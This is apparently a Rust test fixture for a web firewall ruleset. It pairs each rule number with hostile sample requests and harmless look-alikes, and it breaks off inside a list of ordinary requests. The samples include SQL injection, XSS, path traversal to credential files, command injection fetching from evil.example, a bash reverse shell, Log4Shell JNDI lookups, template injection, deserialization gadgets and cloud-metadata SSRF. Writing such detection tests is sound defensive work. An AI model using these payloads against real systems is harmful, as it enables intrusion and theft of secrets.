//! Requests for the rules: what each is for, and what looks like it.

/// A request, or the answer to one.
#[derive(Debug)]
pub(super) enum Ask {
    /// GET with this target, as on the wire.
    Target(&'static str),
    /// A parameter.
    Arg(&'static str),
    /// What is sought.
    Search(&'static str),
    /// A parameter of this name.
    Named(&'static str, &'static str),
    /// A field.
    Field(&'static str, &'static str),
    /// Several.
    Fields(&'static [(&'static str, &'static str)]),
    /// A cookie's value.
    Cookie(&'static str),
    /// A method.
    Method(&'static str),
    /// A text of a form that is posted.
    Form(&'static str),
    /// JSON.
    Json(&'static str),
    /// A body of this type.
    Body(&'static str, &'static str),
    /// An upload of this name.
    File(&'static str),
    /// Status and body of an answer.
    Answer(u16, &'static str),
}

use Ask::{
    Answer, Arg, Body, Cookie, Field, Fields, File, Form, Json, Method, Named, Search, Target,
};

/// A rule, what it is for, and what looks like it.
pub(super) type Case = (u32, &'static [Ask], &'static [Ask]);

/// In the order of the rules.
pub(super) const CASES: &[Case] = &[
    (
        1_001_010,
        &[Arg("a.php\0.jpg"), Target("/a%00b"), Cookie("a\0b"), Json(r#"{"a":"x\u0000y"}"#)],
        &[Arg("a%00b is how one writes it"), Arg("\\0 ends a string"), Json(r#"{"a":"\\u0000"}"#)],
    ),
    (
        1_001_020,
        &[Target("/a%01b"), Named("a\x08b", "1"), Target("/x%7f")],
        &[Form("a tab\there"), Form("a form feed \x0c in a text"), Target("/%C3%A9t%C3%A9")],
    ),
    (
        1_001_030,
        &[
            Arg("en\r\nSet-Cookie: a=b"),
            Target("/r%0d%0aLocation:%20http://evil.example"),
            Arg("x\nContent-Length: 0"),
        ],
        &[
            Form("Our server sends\r\nSet-Cookie: a=b\r\nand then nothing"),
            Arg("Location: Berlin"),
            Arg("two\r\nlines"),
        ],
    ),
    (
        1_001_040,
        &[Arg("x\r\nGET /admin HTTP/1.1\r\nHost: a"), Arg("a\nPOST http://b/ HTTP/1.0")],
        &[
            Form("It logs\nGET /admin HTTP/1.1\nand stops"),
            Arg("get well soon"),
            Search("GET HTTP/1.1"),
        ],
    ),
    (
        1_001_050,
        &[Field("Content_Length", "0"), Field("Transfer_Encoding", "chunked")],
        &[
            Field("X_Request_Id", "1"),
            Field("Content-Length", "0"),
            Field("Content-Language", "en"),
        ],
    ),
    (
        1_001_070,
        &[Field("Proxy", "http://evil.example:80"), Field("PROXY", "")],
        &[Field("Proxy-Connection", "keep-alive"), Field("Proxy-Authorization", "Basic YTpi")],
    ),
    (
        1_001_080,
        &[Method("TRACE"), Method("TRACK"), Method("DEBUG")],
        &[Method("PUT"), Method("OPTIONS"), Method("PROPFIND")],
    ),
    (1_001_090, &[Method("PUT"), Method("DELETE")], &[Method("GET"), Method("HEAD")]),
    (
        1_001_110,
        &[
            Fields(&[("Content-Type", "text/plain"), ("Content-Type", "application/json")]),
            Fields(&[("Content-Type", "text/plain"), ("content-type", "text/plain")]),
        ],
        &[
            Field("Content-Type", "multipart/form-data; boundary=x"),
            Fields(&[("Content-Type", "text/plain"), ("Content-Language", "de")]),
        ],
    ),
    (
        1_001_120,
        &[
            Body("application/x-www-form-urlencoded; charset=utf-7", "a=b"),
            Body("text/plain;charset=\"UTF-16\"", "a"),
            Body("application/x-www-form-urlencoded; charset=ibm037", "a=b"),
        ],
        &[
            Body("application/x-www-form-urlencoded; charset=UTF-8", "a=b"),
            Body("text/plain; charset=iso-8859-1", "a"),
            Body("text/plain; charset=windows-1252", "a"),
        ],
    ),
    (
        1_001_130,
        &[
            Target("/a/%c0%ae%c0%ae/b"),
            Target("/x?f=..%c0%afetc"),
            Target("/x?q=%u003cscript"),
            Target("/?a=%u0027"),
        ],
        &[Target("/caf%C3%A9"), Target("/?q=%u4f60%u597d"), Target("/?q=%C0%C8%C9")],
    ),
    (
        1_002_010,
        &[
            Arg("../../../etc/hosts"),
            Arg("img/../../../../x.ini"),
            Arg("..%2f..%2f..%2fx"),
            Arg("....//....//....//x"),
            Arg("..\\..\\..\\boot"),
            Cookie("../../../../tmp/x"),
        ],
        &[
            Arg("../index.html"),
            Arg("../../page"),
            Form("import a from '../../../a'; // is it right?"),
            Form("we drove on ... / ... / and on"),
            Search("... ... ..."),
        ],
    ),
    (
        1_002_020,
        &[
            Target("/a/%2e%2e/b"),
            Target("/static/..%2f..%2fetc"),
            Target("/app/..;/manager"),
            Target("/%252e%252e/x"),
            Target("/cgi-bin/.%2e/x"),
        ],
        &[
            Target("/file.%2e"),
            Target("/a..b/c"),
            Target("/v1.2..1.3/diff"),
            Target("/page?next=%2e%2e%2fhome"),
        ],
    ),
    (
        1_002_030,
        &[
            Arg("/etc/passwd"),
            Arg("file/../etc/shadow"),
            Arg("/proc/self/environ"),
            Arg("c:\\windows\\win.ini"),
            Arg("/etc/passwd\0.png"),
            Arg("/root/.ssh/id_rsa"),
            Target("/static//etc/passwd"),
        ],
        &[
            Search("/etc/passwd"),
            Form("Please look into /etc/passwd, and tell me what stands there."),
            Arg("passwd"),
            Arg("/etc/nothing-of-interest"),
            Arg("Windows 10"),
            Arg("/docs/proc/"),
        ],
    ),
    (
        1_002_040,
        &[
            Target("/.git/config"),
            Target("/app/.env"),
            Target("/.env.production"),
            Target("/.htpasswd"),
            Target("/.aws/credentials"),
            Target("/.svn/entries"),
            Target("/WEB-INF/web.xml"),
        ],
        &[
            Target("/.well-known/acme-challenge/abc"),
            Target("/user/repo.git/info/refs"),
            Target("/docs/.env.example"),
            Target("/.github/workflows"),
            Target("/environment"),
            Target("/blog/what-is-gitignore"),
        ],
    ),
    (
        1_002_050,
        &[
            Target("/index.php.bak"),
            Target("/wp-config.php~"),
            Target("/backup.sql"),
            Target("/dump.sql.gz"),
            Target("/.index.php.swp"),
            Target("/config.yml.old"),
        ],
        &[
            Target("/download/northwind.sql"),
            Target("/backup/instructions"),
            Target("/old/index.php"),
            Target("/index.php"),
            Target("/~alice/"),
            Target("/data.json"),
        ],
    ),
    (
        1_002_060,
        &[
            Target("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
            Target("/_ignition/execute-solution"),
            Target("/HNAP1/"),
            Target("/boaform/admin/formLogin"),
        ],
        &[
            Target("/vendor/phpunit/README.md"),
            Target("/solr/select"),
            Target("/shell-scripts"),
            Target("/setup.html"),
            Target("/manager/html5"),
        ],
    ),
    (
        1_003_010,
        &[
            Arg("1' OR '1'='1"),
            Arg("1 UNION SELECT username, password FROM users--"),
            Arg("admin'--"),
            Form("x' AND 1=1#"),
            Cookie("1' or 1=1-- -"),
            Json(r#"{"id":"1' OR 1=1 --"}"#),
            Arg("foo bar' UNION SELECT 1,2,3 -- "),
        ],
        &[
            Search("O'Reilly"),
            Search("rock 'n' roll"),
            Form("It's what we'd like; isn't it? -- Bob"),
            Form("SELECT boxes are hard to style, and UNION Square is nice"),
            Arg("1-2"),
            Search("select * where you live"),
            Search("drop table"),
            Form("5' or 6' tall"),
            Form("It handles both 'deflate' and 'gzip', as it's said."),
            Form("import { readFile } from 'node:fs/promises';"),
            Form("error: '--target <T>' is wrong; \"--no-\" is right, or '--' alone"),
            Form("\"C4267\" # from 'size_t' to 'int'"),
            Form("Set a benchmark (2024)"),
            Arg("Smith & Sons (since 1999)"),
            Arg("d'or"),
            Search("size 10 or 11"),
            Search("\"big\" or \"small\""),
        ],
    ),
    (
        1_003_020,
        &[
            Arg("-1 union select 1,2,3"),
            Arg("1'/**/UNION/**/ALL/**/SELECT/**/NULL,NULL"),
            Arg("x\") union select concat(a,b) from c"),
            Cookie("1 union select @@version"),
        ],
        &[
            Form("The union select committee met in room 1."),
            Search("union select"),
            Form("European Union selects 2 new members"),
            Arg("student union"),
        ],
    ),
    (
        1_003_030,
        &[
            Arg("1; DROP TABLE users"),
            Arg("x'; INSERT INTO users VALUES (1)"),
            Arg("1;select pg_sleep(5)"),
            Arg("1');exec xp_cmdshell"),
        ],
        &[
            Form("Two things; delete from your list what you do not need."),
            Form("Chapter 1; create table decorations"),
            Arg("a=1;b=2"),
            Form("Meeting at 5; update Bob"),
        ],
    ),
    (
        1_003_040,
        &[
            Arg("1 AND SLEEP(5)"),
            Arg("1' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- "),
            Arg("1'; WAITFOR DELAY '0:0:5'--"),
            Arg("(select(0)from(select(sleep(15)))v)"),
            Arg("1||pg_sleep(10)"),
            Field("User-Agent", "x'XOR(if(now()=sysdate(),sleep(5),0))OR'z"),
        ],
        &[
            Form("In C one calls fork() and sleep(5) afterwards."),
            Form("time.sleep(3)\nprint(x)"),
            Search("sleep (10 hours)"),
            Form("Set a benchmark (2024)"),
        ],
    ),
    (
        1_003_060,
        &[
            Arg("1 into outfile '/var/www/x.php'"),
            Arg("1,load_file('/etc/x')"),
            Arg("1; exec master..xp_cmdshell 'dir'"),
            Arg("x'; COPY t FROM PROGRAM 'id'"),
        ],
        &[
            Form("Put it into outfile.txt"),
            Search("xp_cmdshell"),
            Form("How do I load_file in Python?"),
            Form("Please copy the list from program notes"),
        ],
    ),
    (
        1_003_080,
        &[Named("user[$where]", "1"), Json(r#"{"a":{"$where":"sleep(1)"}}"#)],
        &[
            Named("$whereabouts", "1"),
            Named("where", "x"),
            Named("age[$gt]", "18"),
            Json(r#"{"$schema":"x"}"#),
        ],
    ),
    (
        1_004_010,
        &[
            Arg("<img src=x onerror=alert(1)>"),
            Arg("\"><svg/onload=alert(1)>"),
            Arg("<a href=\"javascript:alert(1)\">"),
            Form("<script>alert(1)</script>"),
        ],
        &[
            Form("<p style=\"color:red\">Hello <b>you</b></p>"),
            Form("<iframe src=\"https://video.example/embed/1\" width=\"560\"></iframe>"),
            Form("if (a < b && c > d) { x = y; }"),
            Form("I <3 you"),
            Form("Map<String, List<Integer>> m = new HashMap<>();"),
            Form("<!DOCTYPE html> is the first line"),
        ],
    ),
    (
        1_004_020,
        &[
            Arg("<script src=//evil.example></script>"),
            Arg("</script><b>"),
            Target("/page/%3Cscript%3Ealert(1)%3C/script%3E"),
            Field("Referer", "https://a.example/?q=%3Cscript%3E"),
            Json(r#"{"name":"<ScRiPt>x"}"#),
        ],
        &[
            Form("&lt;script&gt;alert(1)&lt;/script&gt; is how one writes it"),
            Form("A prescription, a <strong>script</strong>"),
            Arg("script"),
            Search("script src"),
            Form("<scripture>"),
        ],
    ),
    (
        1_004_030,
        &[
            Arg("<body onload=alert(1)>"),
            Arg("<svg><animate onbegin=alert(1)>"),
            Arg("<div/onmouseover='alert(1)'>"),
            Json(r#"{"bio":"<img src=1 onerror=\"x()\">"}"#),
        ],
        &[
            Form("<div class=\"button on\" data-once=\"1\">"),
            Form("x < y, on load = 5"),
            Form("<a href=\"/on?click=1\">"),
            Form("onclick= is an attribute"),
        ],
    ),
    (
        1_004_040,
        &[
            Arg("javascript:alert(1)"),
            Arg("java\tscript:alert(1)"),
            Arg("<a href='javascript:fetch(1)'>"),
            Arg("<a href=\"&#106;avascript:alert(1)\">"),
            Arg("vbscript:msgbox(1)"),
        ],
        &[
            Form("JavaScript: the good parts"),
            Form("JavaScript: map() or forEach()?"),
            Form("<a href=\"javascript:void(0)\">more</a>"),
            Form("<a href=\"javascript:;\">more</a>"),
            Arg("javascript"),
            Form("Languages: javascript, perl (5)"),
        ],
    ),
    (
        1_004_050,
        &[
            Arg("data:text/html;base64,PHNjcmlwdD4="),
            Arg("<iframe src=\"data:text/html,<b>x</b>\">"),
        ],
        &[
            Arg("data:image/png;base64,iVBORw0KGgo="),
            Form("The data: text/html is the type"),
            Arg("data:text/plain,hello"),
        ],
    ),
    (
        1_004_060,
        &[
            Arg("<iframe srcdoc='x'>"),
            Arg("<base href=//evil.example>"),
            Arg("<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">"),
        ],
        &[
            Form("<iframe src=\"https://maps.example/1\"></iframe>"),
            Form("<meta charset=\"utf-8\">"),
            Form("all your base href= belongs to us"),
        ],
    ),
    (
        1_005_010,
        &[
            Arg("127.0.0.1; cat /etc/hosts"),
            Arg("x|wget http://evil.example/a.sh"),
            Arg("a && ls -la"),
            Arg("`curl http://evil.example`"),
            Arg("$(sleep 5)"),
            Arg("127.0.0.1\ncat /etc/hosts"),
            Arg("8.8.8.8 & ping -c 5 127.0.0.1"),
            Json(r#"{"host":"a;bash -c 'x'"}"#),
        ],
        &[
            Form("First find the cat; more to come."),
            Form("| id | name | head |\n|---|---|---|\n| 1 | cat | tail |"),
            Form("Run sudo apt update && curl -fsSL https://get.example | sh"),
            Form("Cats & dogs; cats / dogs"),
            Form("```bash\ncurl -L https://get.example\n```"),
            Form("Hi\nid love to see the cat"),
            Arg("name;id"),
            Arg("Tom & Sort"),
            Arg("black|more|less"),
            Form("Sales; find -- or lose -- it"),
            Arg("R&D; file under /misc"),
        ],
    ),
    (
        1_005_020,
        &[Arg("x;whoami"), Arg("a|uname -a"), Arg("1 && id"), Arg("$(id)"), Arg("foo||ls;")],
        &[
            Arg("name|id"),
            Arg("title;id;ls"),
            Form("$(id).hide()"),
            Form("Who am I; whoami and I"),
            Arg("R&D & id card"),
            Form("pass; env. protection"),
        ],
    ),
    (
        1_005_030,
        &[
            Arg("x&type c:\\windows\\x.txt"),
            Arg("1|dir c:\\"),
            Arg("a & cmd /c calc"),
            Arg("powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"),
        ],
        &[
            Form("Which type & size?"),
            Form("PowerShell -- how to begin"),
            Arg("A & Type C"),
            Form("Open cmd and type dir"),
        ],
    ),
    (
        1_005_040,
        &[
            Arg("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
            Arg("nc -e /bin/sh 10.0.0.1 4444"),
            Arg("python3 -c 'import socket,subprocess'"),
        ],
        &[
            Form("Write to /dev/null"),
            Form("python -c 'print(1)'"),
            Form("/dev/tcp is a feature of bash"),
            Form("nc is short for no comment"),
        ],
    ),
    (
        1_005_050,
        &[Field("User-Agent", "() { :; }; /bin/bash -c id"), Cookie("() { x; }; echo")],
        &[
            Field("User-Agent", "App (Linux) {1}"),
            Form("function () { return 1; }"),
            Field("X-Note", "f() { is how functions begin"),
        ],
    ),
    (
        1_005_060,
        &[
            Arg("cat$IFS/etc/hosts"),
            Arg("cat${IFS}/x"),
            Arg(";{cat,/etc/hosts}"),
            Target("/x;curl$IFS$9http"),
        ],
        &[Form("OLD=$IFS; IFS=,"), Form("{cat, dog}"), Form("What is $IFS?"), Arg("{id}")],
    ),
    (
        1_006_010,
        &[
            Arg("${jndi:ldap://evil.example/a}"),
            Field("User-Agent", "${${lower:j}ndi:ldap://evil.example/a}"),
            Field("X-Api-Version", "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example}"),
            Body("text/plain", "x ${jndi:dns://evil.example} y"),
            Target("/$%7Bjndi:ldap://evil.example/%7D"),
            Json(r#"{"a":"${${env:X:-j}ndi:ldap://x}"}"#),
        ],
        &[
            Form("echo ${HOME}"),
            Form("${FOO:-${BAR}}"),
            Form("JNDI: a lookup of Java"),
            Form("`${user.name} has ${count} items`"),
            Arg("${lower}"),
        ],
    ),
    (
        1_006_020,
        &[
            Arg("{{''.__class__.__mro__}}"),
            Arg("{{config.items()}}"),
            Arg("{{constructor.constructor('alert(1)')()}}"),
            Arg("{% if request.application.__globals__ %}"),
            Arg("{{['id']|filter('system')}}"),
        ],
        &[
            Form("Hello {{ name }}, you have {{ count | plural }} mails"),
            Form("{% for item in items %}{{ item.title }}{% endfor %}"),
            Form("{{#if user}}x{{/if}}"),
            Form("def __init__(self): pass"),
            Form("{{ product.class }}"),
            Form("{{ request.path }}"),
        ],
    ),
    (
        1_006_030,
        &[Arg("{{7*7}}"), Arg("${7*7}"), Arg("#{ 7 * 7 }"), Arg("<%= 7*7 %>"), Arg("{{7*'7'}}")],
        &[
            Form("{{ count * 2 }}"),
            Form("Area = (7*7)"),
            Form("{7*7}"),
            Form("a{2}*b{3}"),
            Arg("7*7"),
        ],
    ),
    (
        1_006_040,
        &[
            Arg("${T(java.lang.Runtime).getRuntime().exec('id')}"),
            Field("Content-Type", "%{(#_memberAccess['allowStaticMethodAccess']=true)}"),
            Arg("%{#context['x']}"),
            Target("/$%7B(%23a=@java.lang.Runtime@getRuntime())%7D/"),
        ],
        &[
            Form("Runtime.getRuntime().exec(\"ls\") throws IOException"),
            Form("import java.util.List;"),
            Form("${project.version}"),
            Form("T(java) is a letter"),
        ],
    ),
    (
        1_006_050,
        &[
            Named("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "x"),
            Named("class['classLoader'].x", "1"),
            Named("redirect:${x}", "1"),
        ],
        &[
            Named("class", "a"),
            Named("class.name", "b"),
            Named("subclass.loader", "c"),
            Named("redirect", "/"),
        ],
    ),
    (
        1_006_060,
        &[
            Named("__proto__[isAdmin]", "1"),
            Json(r#"{"a":{"__proto__":{"x":1}}}"#),
            Named("constructor[prototype][x]", "1"),
        ],
        &[
            Named("prototype", "1"),
            Named("constructor", "Red Bull"),
            Form("obj.__proto__ is old"),
            Named("proto", "1"),
        ],
    ),
    (
        1_006_070,
        &[
            Arg("<!--#exec cmd=\"ls\"-->"),
            Arg("<!--#include virtual=\"/x\"-->"),
            Field("User-Agent", "<esi:include src=http://evil.example/>"),
        ],
        &[
            Form("<!-- a comment -->"),
            Form("<!--more-->"),
            Form("#include <stdio.h>"),
            Form("<!-- #1 in sales -->"),
        ],
    ),
    (
        1_006_080,
        &[
            Body(
                "text/plain",
                "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
            ),
            Arg("<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\">"),
        ],
        &[
            Body("text/plain", "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"x\">"),
            Form("An entity is written <!ENTITY name \"value\">"),
            Form("the ENTITY system"),
        ],
    ),
    (
        1_007_010,
        &[
            Arg("php://filter/convert.base64-encode/resource=index"),
            Arg("php://input"),
            Arg("phar://x.jpg"),
            Arg("expect://id"),
            Arg("data://text/plain;base64,PD9waHA="),
        ],
        &[
            Arg("data:image/gif;base64,R0lGOD"),
            Form("The stream php://input holds the body of a request"),
            Arg("https://php.example/input"),
            Arg("php:// is a scheme of streams"),
            Arg("phar"),
        ],
    ),
    (
        1_007_020,
        &[
            Arg("<?php eval($_POST['x']);"),
            Arg("assert(base64_decode('aWQ='))"),
            Body("text/plain", "<?php @system($_GET[0]); ?>"),
            Form("file_put_contents('x.php', 'y')"),
        ],
        &[
            Form("<?php echo $title; ?>"),
            Form("echo htmlspecialchars($_GET['q']);"),
            Form("eval(code) is evil"),
            Form("the system (base64) is fine"),
        ],
    ),
    (
        1_007_030,
        &[
            Arg("phpinfo();"),
            Arg("system('id');"),
            Arg("';passthru('ls');"),
            Arg("${@print(md5(12345))}"),
            Arg("1;print(md5(31337));"),
        ],
        &[
            Search("phpinfo();"),
            Form("My system (a laptop) is slow;"),
            Form("Call exec('x') to run it; then wait"),
            Arg("system"),
            Form("eval (short for evaluation)"),
        ],
    ),
    (
        1_007_040,
        &[Named("_SERVER[DOCUMENT_ROOT]", "x"), Named("GLOBALS[a]", "1"), Named("_SESSION", "1")],
        &[Named("_method", "put"), Named("_token", "1"), Named("session", "1"), Named("_get", "1")],
    ),
    (
        1_007_050,
        &[
            Target("/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"),
            Target("/?%ADd+allow_url_include%3d1"),
            Target("/index.php?-s"),
        ],
        &[
            Target("/?-dash=1"),
            Target("/?a=-d"),
            Target("/?sort=-date&dir=asc"),
            Target("/?q=allow_url_include"),
        ],
    ),
    (
        1_008_010,
        &[Arg("rO0ABXNyABFqYXZhLnV0aWw"), Cookie("rO0ABQ=="), Json(r#"{"a":"rO0ABXNy"}"#)],
        &[
            Named("javax.faces.ViewState", "rO0ABXVyABNb"),
            Arg("r00AB"),
            Cookie("eyJhbGciOiJIUzI1NiJ9.e30.x"),
            Arg("brO0ABXNy"),
        ],
    ),
    (
        1_008_020,
        &[
            Arg("O:8:\"Evil\\Obj\":1:{s:1:\"a\";i:1;}"),
            Arg("a:1:{i:0;O:4:\"User\":0:{}}"),
            Cookie("O%3A4%3A%22User%22%3A0%3A%7B%7D"),
            Arg("C:11:\"ArrayObject\":0:{}"),
        ],
        &[
            Arg("a:2:{i:0;s:1:\"x\";i:1;s:1:\"y\";}"),
            Arg("O:8:\"stdClass\":1:{s:1:\"a\";i:1;}"),
            Form("O:3 is a chemical, \"ozone\":"),
            Json(r#"{"O":8,"x":"y"}"#),
        ],
    ),
    (
        1_008_030,
        &[
            Arg("AAEAAAD/////AQAAAAAAAAAMAgAAA"),
            Json(r#"{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}"#),
        ],
        &[
            Arg("AAEAAABkAAAA"),
            Json(r#"{"$type":"Shop.Order, Shop"}"#),
            Form("System.Diagnostics is a namespace"),
        ],
    ),
    (
        1_008_040,
        &[
            Arg("cos\nsystem\n(S'id'\ntR."),
            Form("!!python/object/apply:os.system ['id']"),
            Cookie("{\"x\":\"_$$ND_FUNC$$_function(){}()\"}"),
            Form("--- !ruby/object:Gem::Installer"),
        ],
        &[
            Form("sin and cos\nsystem of equations"),
            Form("!!python is great"),
            Form("!ruby"),
            Form("cost $$ND"),
        ],
    ),
    (
        1_008_050,
        &[
            Json(r#"{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x"}"#),
            Body("text/plain", "<java class=\"java.beans.XMLDecoder\">"),
            Form("org.apache.commons.collections.functors.InvokerTransformer"),
        ],
        &[
            Json(r#"{"@type":"Person","name":"Ann"}"#),
            Form("org.apache.commons.lang3.StringUtils"),
            Form("java.beans are good"),
        ],
    ),
    (
        1_009_010,
        &[
            Arg("http://169.254.169.254/latest/meta-data/"),
            Arg("http://metadata.google.internal/computeMetadata/v1/"),
            Arg("//user@169.254.169.254/"),
            Field("Host", "169.254.169.254"),
            Arg("http://[::ffff:169.254.169.254]/"),
        ],
        &[
            Form("Clouds answer at 169.254.169.254, see the manual"),
            Arg("169.254.1.1"),
            Arg("https://metadata.example.com/x"),
            Arg("http://169.254.169.254.example.com/"),
        ],
    ),
    (
        1_009_020,
        &[
            Arg("file:///etc/hosts"),
            Arg("gopher://127.0.0.1:6379/_INFO"),
            Arg("dict://10.0.0.1:11211/stat"),
            Arg("netdoc:/etc/x"),
        ],
        &[
            Arg("file://server/share/report.docx"),
            Form("A file: see below"),
            Arg("ldap://ldap.example.com:389"),
            Arg("https://example.com/file:///x"),
        ],
    ),
    (
        1_009_030,
        &[
            Arg("http://2130706433/"),
            Arg("http://0x7f000001/"),
            Arg("http://0177.0.0.01/"),
            Arg("http://[::ffff:127.0.0.1]/"),
        ],
        &[
            Arg("http://1234.example/"),
            Arg("https://example.com/2130706433"),
            Arg("tel:2130706433"),
            Arg("http://127.0.0.1:3000/callback"),
        ],
    ),
    (
        1_010_010,
        &[
            Field("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
            Field("User-Agent", "Mozilla/5.0 (compatible; Nuclei - Open-source project)"),
            Field("User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"),
        ],
        &[
            Field(
                "User-Agent",
                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            ),
            Field("User-Agent", "curl/8.4.0"),
            Field("User-Agent", "NucleiReader/1.0"),
            Field("User-Agent", "python-requests/2.31"),
        ],
    ),
    (
        1_010_030,
        &[
            Arg("http://c4n5s2k8d1e0f7g6h3j9.oast.pro/x"),
            Field("Referer", "https://abcdefghijklmnopqrst0123.oastify.com/"),
        ],
        &[
            Arg("https://oast.example/x"),
            Form("See interact.sh and oast.pro"),
            Field("Referer", "https://www.example.com/"),
        ],
    ),
    (
        1_011_010,
        &[
            File("shell.php"),
            File("x.phtml"),
            File("a.jsp "),
            File("a.aspx"),
            File(".htaccess"),
            File("x.php;.jpg"),
        ],
        &[
            File("photo.jpg"),
            File("php-manual.pdf"),
            File("index.php.png"),
            File("cert.cer"),
            File("notes.html"),
        ],
    ),
    (
        1_011_020,
        &[File("../x.jpg"), File("/etc/cron.d/x"), File("a/../../b")],
        &[File("a..b.jpg"), File("Bericht (1).pdf"), File("v1...txt"), File("résumé.doc")],
    ),
    (
        1_012_010,
        &[
            Answer(500, "<p>You have an error in your SQL syntax; check the manual</p>"),
            Answer(500, "SQLSTATE[42000]: Syntax error"),
            Answer(404, "ORA-00933: SQL command not properly ended"),
        ],
        &[
            Answer(200, "What does \"You have an error in your SQL syntax\" mean?"),
            Answer(500, "Something went wrong"),
            Answer(500, "ORA is a prefix"),
        ],
    ),
    (
        1_012_020,
        &[
            Answer(500, "java.lang.NullPointerException\n\tat com.example.App.run(App.java:42)\n"),
            Answer(500, "Traceback (most recent call last):\n  File \"x.py\""),
            Answer(500, "Error: x\n    at Object.<anonymous> (/srv/app/index.js:10:15)"),
        ],
        &[
            Answer(200, "at com.example.App.run(App.java:42) is a line of a trace"),
            Answer(500, "We met at noon (12:00)"),
            Answer(404, "Not found at all"),
        ],
    ),
    (
        1_012_030,
        &[
            Answer(
                200,
                "<br />\n<b>Warning</b>:  include(x): failed in <b>/var/www/a.php</b> on line <b>3</b>",
            ),
            Answer(
                500,
                "<b>Fatal error</b>:  Uncaught Error in <b>C:\\web\\a.php</b> on line <b>30</b><br />",
            ),
        ],
        &[
            Answer(200, "<b>Warning</b>: hot surface"),
            Answer(200, "<b>Notice</b>: we moved in <b>May</b> on line <b>3</b> of the tram"),
        ],
    ),
    (
        1_012_040,
        &[
            Answer(
                200,
                "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKL\nMIIEowIBAAKCAQEA01234567\n",
            ),
            Answer(
                200,
                "<pre>-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gt\nZWQyNTUxOQAAACA=\n",
            ),
        ],
        &[
            Answer(200, "A key begins with -----BEGIN RSA PRIVATE KEY----- and some lines"),
            Answer(
                200,
                "-----BEGIN PUBLIC KEY-----\nMIIEowIBAAKCAQEA0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKL\nMIIE\n",
            ),
            Answer(200, "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----\n"),
        ],
    ),
    (
        1_012_050,
        &[
            Answer(
                200,
                "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n",
            ),
            Answer(200, "\nroot:*:0:0:Charlie &:/root:/bin/csh\nbin:*:3:7:x:/:/usr/sbin/nologin\n"),
        ],
        &[
            Answer(200, "<p>The line root:x:0:0:root:/root:/bin/bash is of root</p>"),
            Answer(200, "root: the part of a plant\nleaf: another"),
        ],
    ),
    (
        1_012_060,
        &[
            Answer(
                200,
                "{\"AccessKeyId\" : \"ASIA\", \"SecretAccessKey\" : \"0123456789012345678901234567890123456789\"}",
            ),
            Answer(
                200,
                "APP_NAME=x\nAPP_KEY=base64:MDEyMzQ1Njc4OTAxMjM0NTY3ODkwMTIzNDU2Nzg5MDE=\nDB_HOST=a\nDB_PASSWORD=b\n",
            ),
        ],
        &[
            Answer(200, "Set SecretAccessKey in your settings"),
            Answer(200, "<pre>APP_KEY=base64:...\nDB_PASSWORD=</pre>"),
        ],
    ),
    (
        1_001_520,
        &[Field("X-Original-URL", "/admin"), Field("X-Rewrite-URL", "/admin")],
        &[Field("X-Original-Host", "a"), Field("X-Url", "/")],
    ),
    (
        1_001_530,
        &[Field("Content-Encoding", "gzip"), Field("Content-Encoding", "br")],
        &[Field("Content-Encoding", "identity"), Field("Accept-Encoding", "gzip")],
    ),
    (
        1_002_510,
        &[Arg("../../page"), Arg("a/../../b")],
        &[Arg("../page"), Form("import x from '../../x'")],
    ),
    (
        1_003_510,
        &[Arg("information_schema.tables"), Arg("@@version"), Arg("x from sysobjects")],
        &[Arg("information schema"), Arg("a@@b"), Arg("system objects")],
    ),
    (
        1_003_530,
        &[Named("user[$ne]", "1"), Json(r#"{"pass":{"$gt":""}}"#)],
        &[Named("$next", "1"), Named("price[gt]", "5")],
    ),
    (
        1_004_510,
        &[Arg("<iframe src=//evil.example>"), Arg("<svg>"), Arg("<form action=x>")],
        &[Arg("<b>bold</b>"), Arg("a <form"), Arg("x<y")],
    ),
    (
        1_005_510,
        &[Form("please run; cat /etc/hosts"), Arg("a `id` b"), Form("x && curl http://a")],
        &[Form("cats; dogs"), Arg("`name`"), Form("ids & more")],
    ),
    (
        1_007_510,
        &[Arg("<?php echo 1;"), Form("<?= $x ?>")],
        &[Arg("<? xml"), Arg("<?xml version=\"1.0\"?>"), Arg("php")],
    ),
    (
        1_009_510,
        &[Arg("http://localhost/admin"), Arg("https://192.168.1.1/"), Arg("http://127.1/")],
        &[
            Named("redirect_uri", "http://localhost:3000/callback"),
            Arg("http://localhost.example.com/"),
            Arg("https://example.com/?u=http://10.0.0.1"),
        ],
    ),
];

/// What shops, forums and applications are sent all day.
pub(super) const ORDINARY: &[Ask] = &[
    Target("/"),
    Target("/index.html?utm_source=news&utm_medium=email&utm_campaign=spring%202024"),
    Target("/products?sort=-price&filter[color]=red&filter[size]=10..12&page=2"),
    Target("/search?q=C%2B%2B+templates+%26+macros"),
    Target(
        "/oauth/authorize?response_type=code&client_id=abc&redirect_uri=https%3A%2F%2Fapp.example%2Fcb%3Fx%3D1&scope=openid%20profile&state=eyJhIjoxfQ%3D%3D",
    ),
    Target("/login?next=%2Faccount%3Ftab%3Dorders"),
